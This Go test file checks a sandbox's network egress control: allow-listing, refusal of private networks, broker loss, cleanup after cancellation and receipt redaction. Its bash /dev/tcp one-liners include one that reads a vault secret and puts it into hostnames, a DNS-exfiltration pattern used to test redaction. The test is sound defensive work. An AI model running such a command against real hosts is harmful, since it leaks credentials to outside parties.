package kernel

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	vocabulary "palyra/call"
	"palyra/crypt/receipt"
	"palyra/internal/fault"
	"palyra/isolate"
	"palyra/isolate/egress"
	"palyra/isolate/egress/client"
	"palyra/isolate/egress/dns"
	"palyra/isolate/evidence"
)

// world has names that lead to this host's loopback, a host that answers there, and a palyra-egress
// in this process, which a test can end.
type world struct {
	t      *testing.T
	broker *client.Listener
	port   int
	end    context.CancelFunc // palyra-egress
	ended  chan struct{}
	at     string
	asked  netip.AddrPort // the name server

	mu      sync.Mutex
	open    map[net.Conn]bool // at the host
	changed chan struct{}     // closed and replaced when open changes
}

func newWorld(t *testing.T) *world {
	t.Helper()
	w := &world{t: t, open: make(map[net.Conn]bool), changed: make(chan struct{}), at: filepath.Join(t.TempDir(), "egress")}
	names, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	host, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.ListenUnix("unixpacket", &net.UnixAddr{Name: w.at, Net: "unixpacket"})
	if err != nil {
		t.Fatal(err)
	}
	w.port, w.asked, w.broker = host.Addr().(*net.TCPAddr).Port, names.LocalAddr().(*net.UDPAddr).AddrPort(), client.Listen(l)
	var all sync.WaitGroup
	t.Cleanup(func() {
		w.stop()
		w.broker.Close()
		names.Close()
		host.Close()
		w.hangUp()
		all.Wait()
	})
	all.Go(func() {
		b := make([]byte, dns.MaxQuery)
		for {
			n, from, err := names.ReadFromUDP(b)
			if err != nil {
				return
			}
			q, err := dns.Parse(b[:n])
			switch {
			case err != nil:
				continue
			case q.Type != dns.A:
				names.WriteToUDP(q.Empty(), from)
			case q.Name == "public.example":
				names.WriteToUDP(q.Addresses([]netip.Addr{netip.MustParseAddr("1.1.1.1")}, time.Minute), from)
			default:
				names.WriteToUDP(q.Addresses([]netip.Addr{netip.AddrFrom4([4]byte{127, 0, 0, 1})}, time.Minute), from)
			}
		}
	})
	all.Go(func() {
		for {
			c, err := host.Accept()
			if err != nil {
				return
			}
			w.note(c, true)
			all.Go(func() { // says what it got so far at each line, and goes on
				defer w.note(c, false)
				defer c.Close()
				b := make([]byte, 1024)
				for {
					n, err := c.Read(b)
					if err != nil {
						return
					}
					fmt.Fprintf(c, "heard %s", b[:n])
				}
			})
		}
	})
	w.start()
	return w
}

// start starts palyra-egress, and waits until it can be used.
func (w *world) start() {
	w.t.Helper()
	conn, err := net.DialUnix("unixpacket", nil, &net.UnixAddr{Name: w.at, Net: "unixpacket"})
	if err != nil {
		w.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	w.end, w.ended = cancel, make(chan struct{})
	go func(ended chan struct{}) {
		defer close(ended)
		egress.Serve(ctx, conn, egress.Config{Nameserver: w.asked})
	}(w.ended)
}

func (w *world) stop() {
	w.end()
	<-w.ended
}

func (w *world) note(c net.Conn, open bool) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if open {
		w.open[c] = true
	} else {
		delete(w.open, c)
	}
	close(w.changed)
	w.changed = make(chan struct{})
}

func (w *world) hangUp() {
	w.mu.Lock()
	defer w.mu.Unlock()
	for c := range w.open {
		c.Close()
	}
}

// await waits until so many connections are open at the host.
func (w *world) await(n int) {
	w.t.Helper()
	for {
		w.mu.Lock()
		got, changed := len(w.open), w.changed
		w.mu.Unlock()
		if got == n {
			return
		}
		select {
		case <-changed:
		case <-w.t.Context().Done():
			w.t.Fatalf("%d connections, want %d", got, n)
		}
	}
}

// rules let a call reach a name of this world, which is private.
func (w *world) rules(names ...string) []string {
	out := []string{fmt.Sprintf("127.0.0.0/8:%d", w.port)}
	for _, n := range names {
		out = append(out, fmt.Sprintf("%s:%d", n, w.port))
	}
	return out
}

// talk is a program that connects to a name and says a word, and then does the rest.
func (w *world) talk(name, rest string) []string {
	return []string{"/bin/bash", "-c", fmt.Sprintf(`exec 3<>/dev/tcp/%s/%d && printf 'hello\n' >&3 && head -n 1 <&3 && %s`, name, w.port, rest)}
}

// reaching is a house whose policies let everything through, with a way to hosts.
func reaching(t *testing.T, cfg Config) *house {
	t.Helper()
	cfg.PolicyDir = t.TempDir()
	os.Chmod(cfg.PolicyDir, 0o755)
	put(t, cfg.PolicyDir+"/all.cedar", "@id(\"all\") permit (principal, action, resource);\n", 0o644)
	return openHouse(t, cfg)
}

// TestReachesHosts: a program reaches the hosts that the call names and no other, and the receipt
// says which it reached and which it asked for.
func TestReachesHosts(t *testing.T) {
	w := newWorld(t)
	h := reaching(t, Config{Egress: w.broker})
	var out bytes.Buffer
	p := &Proposal{Tool: ToolRun, Argv: w.talk("web.example", "exec 3>&- && exec 4<>/dev/tcp/other.example/443"), EgressHosts: w.rules("web.example")}
	o := h.call(p, IO{Stdout: &out})
	if o.Outcome != receipt.Executed || out.String() != "heard hello\n" {
		t.Fatalf("%s, %q, %+v", o.Outcome, out.String(), o.Error)
	}
	e := o.Result.Evidence
	if e.Network.Mode != evidence.NetworkEgress || len(e.Egress.Connections) != 1 || e.Egress.Sent != 6 || e.Egress.Received != 12 {
		t.Errorf("%+v, %+v", e.Network, e.Egress)
	} else if c := e.Egress.Connections[0]; c.Host != "web.example" || int(c.Port) != w.port || c.Address != "127.0.0.1" || c.Sent != 6 {
		t.Errorf("%+v", c)
	}
	if !slices.ContainsFunc(e.Egress.Denied, func(d evidence.Denial) bool { return d.Host == "other.example" && d.Why == evidence.DenyNotListed }) {
		t.Errorf("the denied host isn't among %+v", e.Egress.Denied)
	}
	if d := o.Diagnosis; d == nil || d.Code != "EgressDenied" || d.Basis != "observed" || !strings.Contains(d.ForExec(), "--egress other.example:443") {
		t.Errorf("%+v", d)
	}
	if text := string(h.verify(o).Statement.Predicate.Evidence); !strings.Contains(text, `"host":"web.example"`) || !strings.Contains(text, `"host":"other.example"`) {
		t.Errorf("the receipt has %s", text)
	}
	w.await(0)
	if calm := h.call(proposal("/bin/true"), IO{}); calm.Result.Evidence.Egress.Basis != "" || calm.Result.Evidence.Network.Mode == evidence.NetworkEgress {
		t.Errorf("a call without hosts: %+v", calm.Result.Evidence.Egress)
	}
}

// TestPrivateNeedsNetwork: a name that leads to this host's loopback is refused, unless a rule names
// that network.
func TestPrivateNeedsNetwork(t *testing.T) {
	w := newWorld(t)
	h := reaching(t, Config{Egress: w.broker})
	o := h.call(&Proposal{Tool: ToolRun, Argv: w.talk("web.example", "true"), EgressHosts: w.rules("web.example")[1:]}, IO{})
	if o.Exit == 0 || len(o.Result.Evidence.Egress.Connections) > 0 && o.Result.Evidence.Egress.Connections[0].Address != "" {
		t.Errorf("%+v", o.Result.Evidence.Egress)
	}
	if d := o.Diagnosis; d == nil || d.Code != "EgressDenied" || !strings.Contains(d.Text, "private network") {
		t.Errorf("%+v", d)
	}
	w.await(0)
}

// TestNetworksAlone: where a tool means its hosts for a network, a name that leads to the Internet is
// refused.
func TestNetworksAlone(t *testing.T) {
	w := newWorld(t)
	h := reaching(t, Config{Egress: w.broker, Tools: table(func(host string, _ []byte) (*Expansion, error) {
		return &Expansion{Argv: w.talk(host, "true"), EgressHosts: w.rules(host), LeaveOperands: true, EgressNetworks: true}, nil
	})})
	if o := h.call(&Proposal{Tool: "web.example", Input: []byte("{}")}, IO{}); o.Outcome != receipt.Executed || o.Exit != 0 {
		t.Errorf("in the network: %s %d, %+v", o.Outcome, o.Exit, o.Result.Evidence.Egress)
	}
	o := h.call(&Proposal{Tool: "public.example", Input: []byte("{}")}, IO{})
	if e := o.Result.Evidence.Egress; o.Exit == 0 || len(e.Connections) > 0 || len(e.Denied) != 1 || e.Denied[0].Why != evidence.DenyForbidden {
		t.Errorf("elsewhere: %d, %+v", o.Exit, e)
	}
	if d := o.Diagnosis; d == nil || !strings.Contains(d.Text, "public.example") || !strings.Contains(d.Text, "in no network that the call names") {
		t.Errorf("elsewhere: %+v", d)
	}
	w.await(0)
}

// TestBrokerLost: the run is ended with its way, by name, and the next call has another.
func TestBrokerLost(t *testing.T) {
	w := newWorld(t)
	h := reaching(t, Config{Egress: w.broker})
	said := make(chan struct{})
	done := make(chan *Outcome)
	go func() {
		o, err := h.Call(t.Context(), Proposal{Tool: ToolRun, Argv: w.talk("web.example", "sleep 1000"), EgressHosts: w.rules("web.example")}, IO{Stdout: &firstByte{said: said}})
		if err != nil {
			t.Error(err)
		}
		done <- o
	}()
	select {
	case <-said:
	case o := <-done:
		t.Fatalf("%s %d before it said a word, %+v", o.Outcome, o.Exit, o.Error)
	}
	w.stop()
	o := <-done
	if o.Outcome != receipt.Failed || o.Error == nil || o.Error.Reason != "egress_lost" || o.Exit != exitRefused || o.Result == nil || o.Result.Evidence == nil {
		t.Fatalf("%s %d, %+v", o.Outcome, o.Exit, o.Error)
	}
	if p := h.verify(o).Statement.Predicate; p.Error.Reason != "egress_lost" || p.Intent == nil {
		t.Errorf("the receipt says %+v", p.Error)
	}
	w.await(0)
	w.start()
	if o := h.call(&Proposal{Tool: ToolRun, Argv: w.talk("web.example", "true"), EgressHosts: w.rules("web.example")}, IO{}); o.Outcome != receipt.Executed || o.Exit != 0 {
		t.Errorf("the next call: %s, %+v", o.Outcome, o.Error)
	}
}

// firstByte closes said at the first byte.
type firstByte struct {
	said chan struct{}
	once sync.Once
}

func (w *firstByte) Write(b []byte) (int, error) {
	w.once.Do(func() { close(w.said) })
	return len(b), nil
}

// TestWayEnds: a cancelled call and one whose time is over leave no connection, and their receipts
// say where they were connected.
func TestWayEnds(t *testing.T) {
	w := newWorld(t)
	h := reaching(t, Config{Egress: w.broker})
	for name, c := range map[string]struct {
		wall    time.Duration
		cancel  bool
		outcome string
	}{
		"cancel":   {0, true, receipt.Killed},
		"deadline": {2 * time.Second, false, receipt.TimedOut},
	} {
		ctx, cancel := context.WithCancel(t.Context())
		said := make(chan struct{})
		if c.cancel {
			go func() {
				<-said
				cancel()
			}()
		}
		p := Proposal{Tool: ToolRun, Argv: w.talk("web.example", "sleep 1000"), EgressHosts: w.rules("web.example")}
		p.Limits.Wall = c.wall
		o, err := h.Call(ctx, p, IO{Stdout: &firstByte{said: said}})
		cancel()
		if err != nil || o.Outcome != c.outcome {
			t.Errorf("%s: %v, %+v", name, err, o.Error)
			continue
		}
		h.verify(o)
		if e := o.Result.Evidence; len(e.Egress.Connections) != 1 || e.Egress.Connections[0].Outcome == "" {
			t.Errorf("%s: %+v", name, e.Egress)
		}
		w.await(0)
	}
}

// watched is a broker that says when it's used.
type watched struct {
	client.Broker
	open func(*client.Order) error
}

func (b *watched) Open(ctx context.Context, o *client.Order) (*client.Session, error) {
	if err := b.open(o); err != nil {
		return nil, err
	}
	return b.Broker.Open(ctx, o)
}

// TestWayOpensBehindIntent: nothing is asked of palyra-egress before the intent is on disk. If it
// opens no way, the program doesn't run.
func TestWayOpensBehindIntent(t *testing.T) {
	w := newWorld(t)
	var mu sync.Mutex // palyra-cell's start takes its steps beside the call
	var steps []string
	step := func(s string) {
		mu.Lock()
		defer mu.Unlock()
		steps = append(steps, s)
	}
	var fail error
	h := reaching(t, Config{TestOnlyStep: step, Egress: &watched{w.broker, func(o *client.Order) error {
		step("open")
		if o.Owner == "" { // palyra-egress counts by it
			t.Error("an order of no owner")
		}
		return fail
	}}})
	p := &Proposal{Tool: ToolRun, Argv: []string{"/bin/echo", "x"}, EgressHosts: w.rules("web.example")}
	if o := h.call(p, IO{}); o.Outcome != receipt.Executed {
		t.Fatalf("%s, %+v", o.Outcome, o.Error)
	}
	mu.Lock()
	if i, o := slices.Index(steps, "intent"), slices.Index(steps, "open"); i < 0 || o < i {
		t.Errorf("%q", steps)
	}
	mu.Unlock()
	fail = fault.New(fault.Unavailable, "budget", "open an egress session", errors.New("full"))
	var out bytes.Buffer
	o := h.call(p, IO{Stdout: &out})
	if o.Outcome != receipt.Failed || o.Error.Reason != "budget" || o.Intent == nil || o.Result != nil || out.Len() > 0 {
		t.Errorf("%s, %+v, %q", o.Outcome, o.Error, out.String())
	}
}

// TestHostsBeside: hosts go with a terminal, a staged workspace and the /tmp of a session.
func TestHostsBeside(t *testing.T) {
	w := newWorld(t)
	dir := t.TempDir()
	h := reaching(t, Config{Egress: w.broker})
	for name, change := range map[string]func(*Proposal){
		"terminal": func(p *Proposal) { p.TTY = &vocabulary.TTY{Rows: 24, Columns: 80, Term: "xterm"} },
		"staged":   func(p *Proposal) { p.Workspace, p.WorkspaceStaged = dir, true },
		"session":  func(p *Proposal) { p.Workspace, p.SessionID, p.Caches = dir, "ses_1", []string{"tmp"} },
		"loopback": func(p *Proposal) { p.Network = "loopback" },
	} {
		p := &Proposal{Tool: ToolRun, Argv: w.talk("web.example", "true"), EgressHosts: w.rules("web.example")}
		change(p)
		var out bytes.Buffer
		o := h.call(p, IO{Stdout: &out})
		if o.Outcome != receipt.Executed || o.Exit != 0 || !strings.Contains(out.String(), "heard hello") || o.Result.Evidence.Network.Mode != evidence.NetworkEgress {
			t.Errorf("%s: %s %d, %q, %+v", name, o.Outcome, o.Exit, out.String(), o.Error)
		}
	}
	w.await(0)
}

// TestLongLists: the names that a program asked for don't keep its result from being recorded. A
// statement that is too large has them counted alone.
func TestLongLists(t *testing.T) {
	e := evidence.Egress{Basis: evidence.Reported, Queries: 9, More: 3, MoreDenied: 4,
		Connections: []evidence.Connection{{Host: "a.example", Port: 443}, {Host: "b.example", Port: 443}},
		Denied:      []evidence.Denial{{Host: "c.example", Why: evidence.DenyNotListed, Times: 5}}}
	c := &call{out: &Outcome{Result: &isolate.Result{Evidence: &evidence.Evidence{Egress: e}}}}
	if _, ok := c.withoutHosts(receipt.Predicate{}, errors.New("another")); ok || len(c.out.Result.Evidence.Egress.Connections) != 2 {
		t.Error("lists are dropped for another reason")
	}
	p, ok := c.withoutHosts(receipt.Predicate{CallID: "call_1"}, receipt.ErrTooLarge)
	got := c.out.Result.Evidence.Egress
	if !ok || p.CallID != "call_1" || got.More != 5 || got.MoreDenied != 9 || got.Queries != 9 || len(got.Connections)+len(got.Denied) > 0 {
		t.Errorf("%v, %+v", ok, got)
	}
	if text := string(p.Evidence); strings.Contains(text, "example") || !strings.Contains(text, `"more_connections":5`) {
		t.Errorf("the record has %s", text)
	}
	if _, ok := c.withoutHosts(receipt.Predicate{}, receipt.ErrTooLarge); ok {
		t.Error("there is nothing more to drop")
	}
	if _, ok := (&call{out: &Outcome{}}).withoutHosts(receipt.Predicate{}, receipt.ErrTooLarge); ok {
		t.Error("a call that didn't run has lists")
	}
}

// TestSecretInHost: a name that a program asks for has no value of its call's secrets in the
// receipt, whether it reached the host or not.
func TestSecretInHost(t *testing.T) {
	const value = "Correct-Horse-Battery"
	w := newWorld(t)
	h := reaching(t, Config{Egress: w.broker, Vault: vaultWith(t, map[string]string{"vault://global/key": value})})
	p := &Proposal{Tool: ToolRun, Secrets: []string{"k=vault://global/key"}, EgressHosts: append(w.rules(), fmt.Sprintf("*.web.example:%d", w.port)),
		Argv: []string{"/bin/bash", "-c", fmt.Sprintf(`k=$(cat /run/secrets/k); exec 3<>/dev/tcp/$k.web.example/%d && printf 'hello\n' >&3 && head -n 1 <&3; : 4<>/dev/tcp/$k.other.example/443`, w.port)}}
	var out bytes.Buffer
	o := h.call(p, IO{Stdout: &out})
	if o.Outcome != receipt.Executed || !strings.Contains(out.String(), "heard hello") { // the control
		t.Fatalf("%s, %q, %+v", o.Outcome, out.String(), o.Error)
	}
	e := o.Result.Evidence.Egress
	if len(e.Connections) != 1 || len(e.Denied) != 1 {
		t.Fatalf("%+v", e)
	}
	for want, host := range map[string]string{"[secret key].web.example": e.Connections[0].Host, "[secret key].other.example": e.Denied[0].Host} {
		if host != want {
			t.Errorf("the evidence has %q, want %q", host, want)
		}
	}
}
